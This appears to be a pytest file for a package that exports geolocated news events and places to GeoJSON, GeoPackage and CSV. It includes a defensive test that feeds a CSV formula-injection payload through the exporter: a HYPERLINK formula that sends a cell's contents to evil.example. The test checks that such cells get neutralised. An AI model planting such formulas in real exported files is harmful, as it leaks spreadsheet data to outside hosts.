import datetime as dt
import json

from geomap.export import events_geojson, feature_collection, places_geojson
from geomap.model import Article, Event, Mention, Place

PLACE = Place("geonames:1", "Testville", "town", 30.1234567891, 50.4, "UA")


def test_events_geojson_is_rfc7946_with_flat_properties():
    event = Event(
        "e1", "advance", "a1", "Quote.", 0, 6, PLACE, "Testville", dt.date(2022, 11, 11), 1
    )
    data = json.loads(events_geojson([event, Event("e2", "statement", "a1", "No place.", 7, 16)]))
    assert data["type"] == "FeatureCollection" and "crs" not in data
    (feature,) = data["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [30.123457, 50.4]}
    props = feature["properties"]
    assert props["event_date"] == "2022-11-11"
    assert all(not isinstance(v, (dict, list)) for v in props.values())


def test_places_geojson_counts_mentions():
    articles = {"a1": Article("a1", "x", dt.date(2022, 11, 1))}
    mentions = [
        Mention("a1", 0, 1, "T", PLACE),
        Mention("a1", 5, 6, "Testville", PLACE),
        Mention("a1", 9, 10, "Nowhere"),
        Mention("a1", 12, 20, "Testvillean", PLACE, literal=False, role="demonym"),
    ]
    (feature,) = json.loads(places_geojson(mentions, articles))["features"]
    assert feature["properties"]["mentions"] == 2
    assert feature["properties"]["names_as_written"] == "T; Testville"


def test_output_is_deterministic_and_one_feature_per_line():
    features = [{"type": "Feature", "geometry": None, "properties": {"n": i}} for i in range(3)]
    text = feature_collection(features)
    assert text == feature_collection(features)
    lines = text.splitlines()
    assert len(lines) == 5 and all(line.startswith('{"type":"Feature"') for line in lines[1:4])


def seed_layers(gazetteer, tmp_path):
    from conftest import SEEDS

    from geomap.export import export_layers
    from geomap.pipeline import run
    from geomap.store import Store

    run([SEEDS], tmp_path / "run", gazetteer)
    with Store(tmp_path / "run" / "geomap.sqlite") as store:
        articles = {a.id: a for a in store.articles()}
        mentions, events = store.mentions(), store.events()
    return export_layers(articles, mentions, events, gazetteer.places_of_kind("bank"))


def test_every_export_reads_back_in_geopandas_with_its_counts_and_fields(tmp_path, gazetteer):
    import geopandas
    import pandas
    import pyogrio

    from geomap.export import EXPORT_FORMATS, export_files

    layers = seed_layers(gazetteer, tmp_path)
    assert all(layers.values())
    written = {}
    for fmt in EXPORT_FORMATS:
        for name, data in export_files(layers, fmt).items():
            (tmp_path / name).write_bytes(data)
            written[name] = tmp_path / name
    for layer, features in layers.items():
        fields = set(features[0]["properties"])
        for name in (f"{layer}.geojson", f"{layer}.geojsonl"):
            frame = geopandas.read_file(written[name])
            assert len(frame) == len(features) and fields <= set(frame.columns)
            assert frame.crs.to_epsg() == 4326
        frame = geopandas.read_file(written["geomap.gpkg"], layer=layer)
        assert len(frame) == len(features) and fields <= set(frame.columns)
        table = pandas.read_csv(written[f"{layer}.csv"])
        assert len(table) == len(features) and {"lon", "lat"} <= set(table.columns)
        assert table["lon"].between(-180, 180).all() and table["lat"].between(-90, 90).all()
    layer_names = [row[0] for row in pyogrio.list_layers(written["geomap.gpkg"])]
    assert layer_names == ["events", "places", "frontline", "bridges"]
    events = geopandas.read_file(written["geomap.gpkg"], layer="events")
    assert "2022-11-11" in set(events["event_date"].astype(str))


def test_a_geopackage_is_the_same_bytes_whenever_it_is_written(tmp_path, gazetteer):
    import sqlite3
    import time

    from geomap.export import GEOPACKAGE_NAME, export_files

    layers = seed_layers(gazetteer, tmp_path)
    first = export_files(layers, "gpkg")[GEOPACKAGE_NAME]
    time.sleep(1.1)  # GDAL's own stamp has milliseconds: a second apart would differ
    assert export_files(layers, "gpkg")[GEOPACKAGE_NAME] == first
    (tmp_path / GEOPACKAGE_NAME).write_bytes(first)
    stamps = sqlite3.connect(tmp_path / GEOPACKAGE_NAME).execute(
        "SELECT DISTINCT last_change FROM gpkg_contents"
    )
    # stamped with the latest date the layers report
    assert [stamp for (stamp,) in stamps] == ["2022-11-22T00:00:00.000Z"]


def test_geojson_polygons_follow_the_right_hand_rule(tmp_path, gazetteer):
    from shapely.geometry import shape

    layers = seed_layers(gazetteer, tmp_path)
    text = feature_collection(layers["frontline"])
    areas = [f for f in json.loads(text)["features"] if f["geometry"]["type"] == "Polygon"]
    assert areas and all(shape(f["geometry"]).exterior.is_ccw for f in areas)


def test_csv_cells_never_start_a_spreadsheet_formula():
    import csv
    import io

    from geomap.export import export_files

    west = Place("geonames:2", "Westville", "town", -3.5, 40.0, "ES")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    events = [
        Event("e1", "advance", "a1", hostile, 0, len(hostile), west, "@Westville", None, 3),
        Event("e2", "shelling", "a1", "+1 strike", 0, 9, PLACE, "-Testville", None, 3),
    ]
    features = json.loads(events_geojson(events))["features"]
    written = export_files({"events": features}, "csv")
    rows = list(csv.DictReader(io.StringIO(written["events.csv"].decode())))
    assert rows[0]["quote"] == "'" + hostile and rows[0]["place_name_as_written"] == "'@Westville"
    assert rows[1]["quote"] == "'+1 strike" and rows[1]["place_name_as_written"] == "'-Testville"
    assert rows[0]["lon"] == "-3.5"  # numbers stay numbers


def test_a_lone_carriage_return_in_article_text_stays_in_its_cell():
    # found by the property tests: "Kherson\r0" split a CSV row in two
    import csv
    import io

    from geomap.export import export_files

    event = Event(
        "e1", "advance", "a1", "Troops entered\rKherson.", 0, 23, PLACE, "Kherson", None, 3
    )
    written = export_files({"events": json.loads(events_geojson([event]))["features"]}, "csv")
    rows = list(csv.DictReader(io.StringIO(written["events.csv"].decode(), newline="")))
    assert [row["quote"] for row in rows] == ["Troops entered\rKherson."]
